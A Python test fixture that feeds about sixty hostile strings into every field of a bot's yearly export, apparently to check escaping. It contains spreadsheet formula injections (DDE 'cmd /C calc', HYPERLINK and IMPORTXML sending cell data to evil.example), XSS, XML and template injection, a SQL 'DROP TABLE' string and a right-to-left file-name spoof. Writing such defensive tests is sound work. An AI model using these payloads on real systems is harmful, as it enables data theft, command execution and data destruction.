"""Sixty texts that break documents or run as commands, and a year that is made of them."""

from dataclasses import replace

from bot.exports.values import EventRow, MoneyRow, Summary, Told

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Натисніть")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+380441234567",
    "-2+3+cmd|' /C calc'!A0",
    "- провели зустріч",
    "-1",
    "@SUM(1+1)",
    "@бібліотека",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    "{=1+1}",
    "\x00=1+1",
    "\x0b=1+1",
    "\u202e=1+1",
    '"=1+1',
    "'=1+1",
    ";=1+1",
)
MARKUP = (
    "<b>жирно</b> & <script>alert(1)</script>",
    "]]><w:p/>",
    "</w:t></w:r></w:p>",
    "&lt;&amp;&#0;&#x202E;",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "{{ 7*7 }} {% raw %} {0} {year} %s %(x)s",
    "_x0041_ _x000D_ _x005F_",
    "&P &N &D &&",
    "'; DROP TABLE reports; --",
)
LETTERS = (
    "\x00\x01\x08\x0b\x0c\x0e\x1f",
    "до\x00після\x0bтексту\x1b[31m",
    "фото\u202egpj.exe",
    "\u2066ізоляція\u2069 і \u202bнавпаки\u202c",
    "мир 🕊️👩‍👧‍👦🇺🇦 і лист ✉",
    "e\u0301 Zalgơ̴̢ ї ґ є ’ ʼ",
    "\ufffe\uffff кінець",
    "рядок 1\r\nрядок 2\rрядок 3\nрядок 4\tтаб",
    "   пробіли   ",
    "",
    " ",
    "А" * 32_000,
    "слово " * 5_400,
    "=" + "Б" * 40_000,
    "🕊" * 17_000,
    "\n".join(f"- пункт {number}" for number in range(300)),
)
PAYLOADS = (*FORMULAS, *MARKUP, *LETTERS)


def hostile(plain: Summary) -> Summary:
    """Return a year in which every word of people is one of the payloads."""
    first = plain.measures[0]
    measures = tuple(
        replace(
            first,
            id=f"9.9.{number}",
            section=payload or "розділ",
            direction=payload or "напрям",
            title=payload,
            term=payload,
            executors=(payload,),
            expected=payload,
            told=(_told(payload, number, plain),),
        )
        for number, payload in enumerate(PAYLOADS)
    )
    events = tuple(
        EventRow(
            number=number,
            measure="1.2.3",
            title=payload,
            held_on=plain.period[0],
            organisation=payload,
            people=number,
            money=number,
            awareness=payload,
            files=(payload,),
        )
        for number, payload in enumerate(PAYLOADS)
    )
    return replace(
        plain,
        programme=PAYLOADS[2],
        council=PAYLOADS[37],
        responsible=PAYLOADS[45],
        measures=measures,
        events=events,
        rates=tuple(replace(plain.rates[0], organisation=each) for each in PAYLOADS),
        missing=tuple((each, (each,)) for each in PAYLOADS[:50]),
        signers=PAYLOADS[:50],
    )


def _told(payload: str, number: int, plain: Summary) -> Told:
    return Told(
        organisation=payload,
        state="accepted",
        status="Не виконано",
        text=payload,
        people=number,
        events=number,
        money=(MoneyRow(payload[:200] or "джерело", 1_000 + number, 500),),
        no_money=False,
        reason=payload,
        until=plain.period[1],
        submitted_on=plain.period[1],
        due=plain.period[1],
        on_behalf=True,
    )
